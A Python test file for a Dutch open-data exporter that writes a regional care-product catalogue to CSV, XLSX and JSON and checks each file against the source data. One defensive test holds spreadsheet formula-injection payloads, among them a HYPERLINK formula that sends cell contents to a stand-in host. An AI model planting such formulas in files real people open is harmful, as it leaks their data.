"""Open-data exports: each file read back (csv, openpyxl, json) and compared with the catalogue, product
by product and field by field; the JSON against its schema; byte-identical output; the download page."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import zipfile
from html.parser import HTMLParser

import jsonschema
import pytest
from openpyxl import load_workbook

from conftest import ROOT
from helpers import PRODUCT, minimal_data, write
from macros.catalogue.loader import load_catalogue
from macros.components.opendata import file_size, open_data
from macros.exports import COLUMNS, TABLES, ExportFile, about, code_table_columns, export_files
from macros.exports.xlsx import ZIP_TIME
from macros.model import Product
from macros.model.sourced import quote_of, reason_of, state_of, value_of
from macros.site.state import data_date
from macros.text import date_text, quantity_text
from macros.view.words import BLANK

SITE = "https://productenboek.example/"
DATE = "2024-05-06"
NUMBERS = {"tarief", "maximale_duur_waarde", "maximaal_volume_waarde"}


@pytest.fixture(scope="module")
def cat():
    return load_catalogue(ROOT / "data")


@pytest.fixture(scope="module")
def files(cat):
    return export_files(cat, SITE, DATE)


def export_groups(cat) -> dict[str, list[str]]:
    """Export name -> the region ids it holds."""
    return {"productenboek": list(cat.regios), **{r: [r] for r in cat.regios}}


NOT_STATED = "niet vermeld in de bron"
NO_CODE = "geen code in de bron"  # what the product page says for a product without a code


def as_said(v, fmt=str) -> str:
    """A sourced value as the export should say it, written out here on its own (not by macros.text)."""
    state = state_of(v)
    if state == "vermeld":
        return fmt(value_of(v))
    if state == "afgeleid":
        return f"{fmt(value_of(v))} (afgeleid door de redactie: {reason_of(v)})"
    if state == "geen":
        return f"geen, volgens de bron: “{quote_of(v)}”"
    if state == "nader-te-bepalen":
        return f"nader te bepalen volgens de bron: “{quote_of(v)}”"
    return {"leeg": BLANK, "niet-vermeld": NOT_STATED}[state]


def expected_columns(cat, p) -> dict:
    """Every column of a product, derived here from the catalogue on its own (not by the exporter)."""
    region = cat.regios[p.regio]
    doc = {b.document: b for b in region.bronnen}.get(p.bron.document)
    nk = value_of(p.normenkader)
    rgk = nk is not None and nk.soort == "richtinggevend-kader"
    duration = nk.max_duur if nk is not None and not rgk and state_of(nk.max_duur) == "vermeld" else None
    volume = nk.max_volume if nk is not None and not rgk and state_of(nk.max_volume) == "vermeld" else None
    if not p.code:
        ijw = ""
    elif value_of(region.codes_volgen_jz020) is None:
        ijw = f"{NOT_STATED} (de bron zegt niet of de codes de landelijke iJw-indeling volgen)"
    else:
        ijw = as_said(region.codes_volgen_jz020, lambda yes: f"{p.code[:2]} {cat.ijw_categorieen[p.code[:2]]}" if yes else "regionale code")

    def municipalities_text(g) -> str:
        if g != "alle":
            return ", ".join(g)
        return "Alle gemeenten van de regio" + (f" (de bronnen noemen: {', '.join(region.gemeenten)})" if region.gemeenten else "")

    def maximum(field: str) -> str:
        if nk is None:
            return as_said(p.normenkader)
        if rgk:
            return ("geen maximum (de bron noemt het een richtinggevend kader met uitzonderingsgronden; dat het geen "
                    f"maximum is, is afgeleid door de redactie; zie {'Richtinggevende duur' if field == 'max_duur' else 'Richtinggevende omvang'})")
        return as_said(getattr(nk, field), quantity_text)

    tariff = value_of(p.tarief) if state_of(p.tarief) == "vermeld" else None
    state = state_of(p.tarief)
    tariff_state = ("gepubliceerd" if tariff.bedrag is not None else BLANK) if tariff else {
        "geen": "geen, volgens de bron", "nader-te-bepalen": "nader te bepalen volgens de bron", "leeg": BLANK, "niet-vermeld": NOT_STATED,
        "afgeleid": "afgeleid door de redactie"}[state]
    doc_source = cat.bronnen[p.bron.document]
    section = doc_source.section(p.bron.sectie)
    kinds = {"normenkader": "normenkader", "trajectduur": "trajectduur (productomschrijving)",
               "richtinggevend-kader": "richtinggevend kader"}
    return {
        "regio": region.naam, "regio_id": p.regio, "id": p.id, "code": p.code or NO_CODE, "naam": p.naam,
        "omschrijving": as_said(p.omschrijving), "doel": as_said(p.doel), "doelgroep": as_said(p.doelgroep),
        "functiemix": as_said(p.functiemix, lambda fm: "; ".join(
            n.niveau + (f" ({n.registratie})" if n.registratie else "") + (f": {n.aandeel:g}%".replace(".", ",") if n.aandeel else "")
            + (f" — {n.functies}" if n.functies else "") for n in fm.niveaus)),
        "functiemix_toelichting": (value_of(p.functiemix).toelichting or "") if value_of(p.functiemix) else "",
        "regiebehandelaar": (value_of(p.functiemix).regiebehandelaar or "") if value_of(p.functiemix) else "",
        "inzet": p.inzet or "", "voorspelbaarheid": p.voorspelbaarheid or "", "groepsgrootte": p.groepsgrootte or "",
        "eenheid_toelichting": (value_of(p.eenheid).toelichting or "") if value_of(p.eenheid) else "",
        "tarief_toelichting": (value_of(p.tarief).toelichting or "") if value_of(p.tarief) else "",
        "kader_basis": (nk.basis or "") if nk else "", "uitsluitingen_voetnoot": p.uitsluitingen_voetnoot or "",
        "productgroep": as_said(p.productgroep), "producttype": f"{cat.producttypen[p.producttype].naam} (afgeleid door de redactie)", "ijw_categorie": ijw,
        "eenheid": as_said(p.eenheid, lambda e: e.soort), "tarief": tariff.bedrag if tariff else None,
        "tarief_per": (value_of(p.tarief).per or "") if value_of(p.tarief) else "",
        "tarief_status": tariff_state,
        "soort_kader": kinds[nk.soort] if nk else as_said(p.normenkader),
        "maximale_duur": maximum("max_duur"),
        "maximale_duur_waarde": duration.waarde if duration else None,
        "maximale_duur_eenheid": (duration.eenheid or "") if duration else "",
        "maximaal_volume": maximum("max_volume"),
        "maximaal_volume_waarde": volume.waarde if volume else None,
        "maximaal_volume_eenheid": (volume.eenheid or "") if volume else "",
        "richtinggevende_duur": as_said(nk.max_duur, quantity_text) if rgk else "",
        "richtinggevend_volume": as_said(nk.max_volume, quantity_text) if rgk else "",
        "gemeenten": as_said(p.gemeenten, municipalities_text), "status": as_said(p.status),
        "editie": (doc.editie or "") if doc else "",
        "geldigheid": (doc.geldigheid or "") if doc else "", "bron_document": p.bron.document, "bron_titel": doc.titel if doc else "",
        "bron_datum": (doc.datum or "") if doc else "", "bron_sectie": section.title,
        "bron_url": f"{SITE}bronnen/{doc_source.stem}/#{section.anchor}",
        "opmerkingen": " | ".join((f"[{', '.join(o.velden)}] " if hasattr(o, "velden") else "")
                                  + " ".join(re.sub(r"\[([^\]]*)\]\([^)]*\)", r"\1", (o.tekst if hasattr(o, "tekst") else o))
                                             .replace("*", "").replace("`", "").split())
                                  for o in p.opmerkingen),
        "url": SITE + p.url,
    }


NAME = {k.header: k.name for k in COLUMNS}  # the documented header mapping


def products(cat, ids):
    return [p for r in ids for p in cat.products_of(r)]


def test_stable_paths(cat, files):
    names = ["productenboek", *cat.regios]
    assert set(files) == {f"open-data/{n}.{ext}" for n in names for ext in ("csv", "xlsx", "json")} | {
        "open-data/productenboek.schema.json", "open-data/sjabloon.xlsx"} | {
        f"open-data/tabellen/{n}/{t.name}.csv" for n in names for t in TABLES} | {
        f"open-data/producten/{p.regio}/{p.id}.json" for p in cat.producten.values()}
    assert {"open-data/flevoland.csv", "open-data/zuid-limburg.xlsx", "open-data/productenboek.json"} <= set(files)


def test_columns_include_the_required_ones():
    names = [k.name for k in COLUMNS]
    required = ["regio", "code", "naam", "productgroep", "producttype", "ijw_categorie", "eenheid", "tarief",
                "tarief_status", "maximale_duur", "maximaal_volume", "gemeenten", "status", "url", "bron_titel",
                "bron_sectie", "bron_url", "editie", "geldigheid", "bron_document"]
    assert [n for n in names if n in required] == required and len(set(names)) == len(names)


def test_headers_are_dutch_and_mapped_to_machine_names():
    """A spreadsheet user reads 'Maximale duur (getal)', not 'maximale_duur_waarde'; scripts keep the
    machine names through the mapping."""
    headers = [k.header for k in COLUMNS]
    assert len(set(headers)) == len(headers)
    for header in headers:
        assert "_" not in header and (header[0].isupper() or header.startswith("iJw")), header
    assert NAME["Maximale duur (getal)"] == "maximale_duur_waarde" and NAME["Bron"] == "bron_titel"
    assert all(header != k.name for k in COLUMNS for header in [k.header])


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV zonder BOM"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_round_trip(cat, files):
    for name, ids in export_groups(cat).items():
        header, *rows = read_csv(files[f"open-data/{name}.csv"])
        assert header == [k.header for k in COLUMNS]
        header = [NAME[k] for k in header]
        ps = products(cat, ids)
        assert len(rows) == len(ps)
        for row, p in zip(rows, ps, strict=True):
            read_back = dict(zip(header, row, strict=True))
            for field, value in expected_columns(cat, p).items():
                if field in NUMBERS:
                    got = float(read_back[field].replace(",", ".")) if read_back[field] else None
                    assert got == value, (p.ref, field)
                else:  # text a spreadsheet would read as a formula ('- Waakvlam', '=…') gets an apostrophe
                    value = "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value
                    assert read_back[field] == value, (p.ref, field, read_back[field], value)


def test_xlsx_round_trip(cat, files):
    for name, ids in export_groups(cat).items():
        wb = load_workbook(io.BytesIO(files[f"open-data/{name}.xlsx"]))
        code_sheets = [f"Codetabel {cat.regios[r].naam}" for r in ids if r in cat.codetabellen]
        assert wb.sheetnames == [cat.regios[r].naam for r in ids] + [t.title for t in TABLES] + code_sheets + ["Toelichting"]
        notes_sheet = [list(v) for v in wb["Toelichting"].iter_rows(values_only=True)]
        assert notes_sheet[:len(COLUMNS) + 1] == [["Kolom", "Veldnaam", "Betekenis"], *([k.header, k.name, k.meaning] for k in COLUMNS)]
        assert [r[1] for r in notes_sheet[len(COLUMNS) + 1:]] == [f"{t.name}.{k.name}" for t in TABLES for k in t.all_columns]
        for r in ids:
            ws = wb[cat.regios[r].naam]
            header, *rows = [list(v) for v in ws.iter_rows(values_only=True)]
            assert header == [k.header for k in COLUMNS]
            header = [NAME[k] for k in header]
            assert ws.freeze_panes == "A2"
            assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(header)).column_letter}{len(rows) + 1}"
            assert all(8 <= ws.column_dimensions[ws.cell(1, i).column_letter].width <= 60 for i in range(1, len(header) + 1))
            ps = cat.products_of(r)
            assert len(rows) == len(ps)
            for row, p in zip(rows, ps, strict=True):
                read_back = dict(zip(header, row, strict=True))
                for field, value in expected_columns(cat, p).items():
                    got = read_back[field]
                    if field in NUMBERS:
                        assert got is None or isinstance(got, (int, float)), (p.ref, field, got)
                        assert got == value, (p.ref, field)
                    else:
                        assert (got or "") == value, (p.ref, field, got, value)
                        assert got is None or isinstance(got, str)


def test_xlsx_code_table_per_edition(cat, files):
    assert cat.codetabellen, "er is geen codetabel in de data"
    for region_id, table in cat.codetabellen.items():
        for name in ("productenboek", region_id):
            ws = load_workbook(io.BytesIO(files[f"open-data/{name}.xlsx"]))[f"Codetabel {cat.regios[region_id].naam}"]
            header, *rows = [list(v) for v in ws.iter_rows(values_only=True)]
            mapping = dict(code_table_columns(list(table.edities)))
            assert "Omschrijving 2019" in header and "Vervalt in 2020" in header and "Wijziging 2019 → 2020" in header
            header = [mapping[k] for k in header]
            for e in table.edities:
                assert {f"omschrijving_{e}", f"extra_omschrijving_{e}", f"code_{e}", f"vervalt_{e}"} <= set(header)
            assert ws.freeze_panes == "A2" and ws.auto_filter.ref
            assert len(rows) == len(table.regels)
            for row, line in zip(rows, table.regels, strict=True):
                read_back = dict(zip(header, row, strict=True))
                assert read_back["product"] == line.product
                p = cat.producten.get(f"{region_id}/{line.product}")
                assert read_back["url"] == (SITE + p.url if p else None)
                for e in table.edities:
                    c = line.edities.get(e)
                    assert read_back[f"omschrijving_{e}"] == (c.omschrijving if c else None)
                    assert read_back[f"extra_omschrijving_{e}"] == (c.extra_omschrijving if c else None)
                    assert read_back[f"code_{e}"] == (c.code if c else None)  # codes stay text: '04100' keeps its 0
                    assert read_back[f"vervalt_{e}"] is (c.vervalt if c else None)


def test_json_round_trip_and_schema(cat, files):
    schema = json.loads(files["open-data/productenboek.schema.json"])
    jsonschema.Draft202012Validator.check_schema(schema)
    # one validator each (jsonschema.validate checks the schema itself again on every call: most of this test's time)
    whole = jsonschema.Draft202012Validator(schema)
    one_product = jsonschema.Draft202012Validator({"$ref": "#/$defs/ExportProduct", "$defs": schema["$defs"]})
    field_names = set(Product.model_fields)
    for name, ids in export_groups(cat).items():
        raw = files[f"open-data/{name}.json"]
        doc = json.loads(raw)
        whole.validate(doc)
        ExportFile.model_validate_json(raw)  # and the model it was generated from agrees
        assert doc["schema"] == SITE + "schema/product.schema.json"
        assert doc["$schema"] == SITE + "open-data/productenboek.schema.json"
        assert doc["datum"] == DATE and doc["licentie"]["naam"].startswith("CC0 1.0")
        assert [r["id"] for r in doc["regios"]] == ids
        assert set(doc["codetabellen"]) == {r for r in ids if r in cat.codetabellen}
        ps = products(cat, ids)
        assert len(doc["producten"]) == len(ps)
        for item, p in zip(doc["producten"], ps, strict=True):
            assert (item["id"], item["regio"], item["url"]) == (p.id, p.regio, SITE + p.url)
            assert item["data_url"] == f"{SITE}open-data/producten/{p.regio}/{p.id}.json"
            fields = {k: v for k, v in item.items() if k not in {"id", "regio", "url", "data_url", "weergave"}}
            assert fields == p.model_dump(mode="json", include=field_names), p.ref
            assert Product.model_validate_json(json.dumps(fields)) == Product.model_validate(dict(p.model_dump(include=field_names)))
            if name == "productenboek":  # each product's own file, once
                own = json.loads(files[f"open-data/producten/{p.regio}/{p.id}.json"])
                one_product.validate(own["product"])
                view = own["product"].pop("weergave")
                assert own["product"] == item and "weergave" not in item
                assert view["kolommen"]["code"] == (p.code or NO_CODE)
                assert set(view["tabellen"]) == {t.name for t in TABLES}


def test_json_schema_rejects_a_broken_product(files):
    schema = json.loads(files["open-data/productenboek.schema.json"])
    doc = json.loads(files["open-data/productenboek.json"])
    del doc["producten"][0]["naam"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(doc, schema, cls=jsonschema.Draft202012Validator)


def test_output_is_byte_identical(cat, files):
    assert export_files(cat, SITE, DATE) == files
    for path, data in files.items():
        if path.endswith(".xlsx"):
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                assert {i.date_time for i in z.infolist()} == {ZIP_TIME}
                core = z.read("docProps/core.xml").decode()
            assert core.count(f"{DATE}T00:00:00Z") == 2  # created and modified: the data date, not now


def test_dutch_characters_survive(cat, files):
    texts = {p.naam for p in cat.producten.values() if any(ord(ch) > 127 for ch in p.naam)}
    assert texts, "geen productnaam met een letter buiten ASCII in de data"
    csv_text = files["open-data/productenboek.csv"].decode("utf-8-sig")
    json_text = files["open-data/productenboek.json"].decode("utf-8")
    wb = load_workbook(io.BytesIO(files["open-data/productenboek.xlsx"]))
    cells = {c for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row}
    for t in texts:
        assert t in csv_text and t in json_text and t in cells


@pytest.fixture()
def small_cat(tmp_path):
    """Minimal data with a published tariff, 'alle' municipalities and Dutch characters everywhere."""
    data = minimal_data(tmp_path)
    write(data / "regions/testregio.yaml", (data / "regions/testregio.yaml").read_text().replace(
        "naam: Testregio", "naam: Súdwest-Fryslân").replace("[Almere, Dronten, Lelystad]", "[Almere, Dronten, IJsselstein]"))
    write(data / "products/testregio/45f21.yaml", PRODUCT.replace("tarief: {staat: leeg}", "tarief: {bedrag: 1234.56, per: uur}")
          .replace("naam: Specialistische Begeleiding – Individueel", "naam: Specialistische Begeleiding – geïndiceerde cliënt").replace("[Almere, Dronten]", "alle"))
    return load_catalogue(data)


def test_numbers_are_numbers_and_text_survives(small_cat):
    files = export_files(small_cat)
    header, row, _ = read_csv(files["open-data/testregio.csv"])
    read_back = dict(zip([NAME[k] for k in header], row, strict=True))
    assert read_back["tarief"] == "1234,56" and read_back["tarief_status"] == "gepubliceerd"
    assert read_back["maximale_duur_waarde"] == "12" and read_back["regio"] == "Súdwest-Fryslân"
    assert read_back["naam"] == "Specialistische Begeleiding – geïndiceerde cliënt"
    assert read_back["gemeenten"] == "Alle gemeenten van de regio (de bronnen noemen: Almere, Dronten, IJsselstein)"
    assert read_back["url"] == "../testregio/45f21/"  # without site_url: relative to the file
    ws = load_workbook(io.BytesIO(files["open-data/testregio.xlsx"]))["Súdwest-Fryslân"]
    cell = ws.cell(2, [k.name for k in COLUMNS].index("tarief") + 1)
    assert ws.cell(1, cell.column).value == "Tarief (euro)"
    assert cell.value == 1234.56 and cell.data_type == "n" and "0.00" in cell.number_format
    doc = json.loads(files["open-data/testregio.json"])
    assert doc["producten"][0]["tarief"] == {"bedrag": 1234.56, "per": "uur", "toelichting": None}
    assert doc["schema"] == "../schema/product.schema.json" and doc["datum"] is None


class Tags(HTMLParser):
    def __init__(self, html: str):
        super().__init__()
        self.items: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.feed(str(html))

    def handle_starttag(self, tag, attrs):
        self.items.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def all(self, tag: str) -> list[dict]:
        return [a for t, a in self.items if t == tag]

    @property
    def plain(self) -> str:
        return " ".join(" ".join(self.text).split())


def test_open_data_page_lists_every_file(cat, files):
    html = Tags(open_data(cat, files, "../", DATE, about()))
    assert len(html.all("caption")) == len(html.all("table")) == 2 + len(TABLES)
    assert all(th.get("scope") in {"col", "row"} for th in html.all("th"))
    downloads = [a["href"] for a in html.all("a") if "download" in a]
    # every file but the products' own (linked from their pages; the folder is described in the text)
    assert sorted(downloads) == sorted("../" + path for path in files if not path.startswith("open-data/producten/"))
    assert "open-data/producten/&lt;regio-id&gt;/&lt;product-id&gt;.json" in str(open_data(cat, files, "../", DATE, about()))
    assert downloads[:3] == ["../open-data/productenboek.csv", "../open-data/productenboek.xlsx",
                             "../open-data/productenboek.json"]
    assert html.all("time") == [{"datetime": DATE}] and "6 mei 2024" in html.plain
    assert "CC0 1.0" in html.plain and "brondocumenten" in html.plain
    assert file_size(len(files["open-data/flevoland.csv"])) in html.plain
    assert all(f"{k.name}" in html.plain for k in COLUMNS)


def test_dutch_sizes_and_dates():
    assert file_size(845) == "845 bytes"
    assert file_size(12_345) == "12,3 kB"
    assert file_size(999_999) == "1,0 MB" and file_size(1_234_567) == "1,2 MB"
    assert date_text("2025-03-07") == "7 maart 2025" and date_text("onbekend") == "onbekend"


def test_data_datum_from_git_or_today(tmp_path):
    date = data_date(ROOT / "data")
    assert datetime.date.fromisoformat(date) <= datetime.date.today() + datetime.timedelta(days=1)
    assert data_date(tmp_path) == datetime.date.today().isoformat()  # not in git


def test_text_a_spreadsheet_would_run_as_a_formula_stays_text(tmp_path):
    """Hostile input: names that Excel or LibreOffice would evaluate when opening the CSV."""
    data = minimal_data(tmp_path)
    payloads = ['=HYPERLINK("https://example.invalid/?"&A1;"klik")', "+31 6 1234", "-2+3", "@SUM(1;2)"]
    for i, name in enumerate(payloads):
        write(data / f"products/testregio/4{i}a01.yaml", PRODUCT.replace("45F21", f"4{i}A01")
              .replace("naam: Specialistische Begeleiding – Individueel", "naam: " + json.dumps(name)))
    files = export_files(load_catalogue(data))
    header, *rows = read_csv(files["open-data/testregio.csv"])
    names = [dict(zip([NAME[k] for k in header], r, strict=True))["naam"] for r in rows]
    for name in payloads:
        assert "'" + name in names  # shown as text, apostrophe hidden by the spreadsheet
    assert not any(n[0] in "=+-@" for n in names)
    ws = load_workbook(io.BytesIO(files["open-data/testregio.xlsx"]))["Testregio"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value in payloads]
    assert len(cells) == len(payloads) and all(c.data_type == "s" for c in cells)
    doc = json.loads(files["open-data/testregio.json"])
    assert set(payloads) <= {p["naam"] for p in doc["producten"]}  # JSON keeps the value as it is


def test_source_links_point_at_the_section_of_the_published_source(built_site):
    """Every product row names its source by title and links to its section on the source's own page."""
    header, *rows = read_csv((built_site / "open-data/productenboek.csv").read_bytes())
    for row in rows:
        r = dict(zip([NAME[k] for k in header], row, strict=True))
        assert r["bron_titel"] and not r["bron_titel"].endswith(".txt"), r["id"]
        path, anchor = r["bron_url"].removeprefix("../").split("#")
        html = (built_site / path / "index.html").read_text(encoding="utf-8")
        assert path.startswith("bronnen/") and f'id="{anchor}"' in html, r["id"]
        header_html = html.split(f'id="{anchor}"')[1].split("</h", 1)[0]
        assert r["bron_sectie"].split(" ")[0] in header_html and r["bron_document"] in html, r["id"]


def test_build_without_site_url_writes_no_local_address(built_site):
    """No SITE_URL: relative links, no canonical link, a sitemap of paths; never 127.0.0.1."""
    for path in built_site.rglob("*"):
        if path.suffix in {".html", ".xml", ".json", ".csv"}:
            text = path.read_text(encoding="utf-8-sig")
            assert "127.0.0.1" not in text and "localhost" not in text, path
        elif path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as z:
                assert not any(b"127.0.0.1" in z.read(n) for n in z.namelist()), path
    assert 'rel="canonical"' not in (built_site / "index.html").read_text(encoding="utf-8")
    locs = (built_site / "sitemap.xml").read_text(encoding="utf-8").split("<loc>")[1:]
    assert len(locs) > 80 and all(loc.startswith("/") for loc in locs)


def test_a_text_longer_than_an_excel_cell_is_cut_visibly():
    """Excel keeps 32,767 characters per cell: a longer text (notes joined, for instance) is cut with a
    Dutch note in the cell, never silently."""
    from macros.exports.xlsx import CUT_NOTE, MAX_CELL, Sheet, workbook

    lang = "=gevaarlijk " + "x" * 40_000
    data = workbook([Sheet("Test", ["Opmerkingen", "Kort"], [[lang, "kort"]])], datetime.datetime(2000, 1, 1))
    ws = load_workbook(io.BytesIO(data))["Test"]
    cell = ws.cell(2, 1).value
    assert len(cell) == MAX_CELL and cell.endswith(CUT_NOTE) and cell.startswith("=gevaarlijk xxx")
    assert ws.cell(2, 1).data_type == "s" and ws.cell(2, 2).value == "kort"
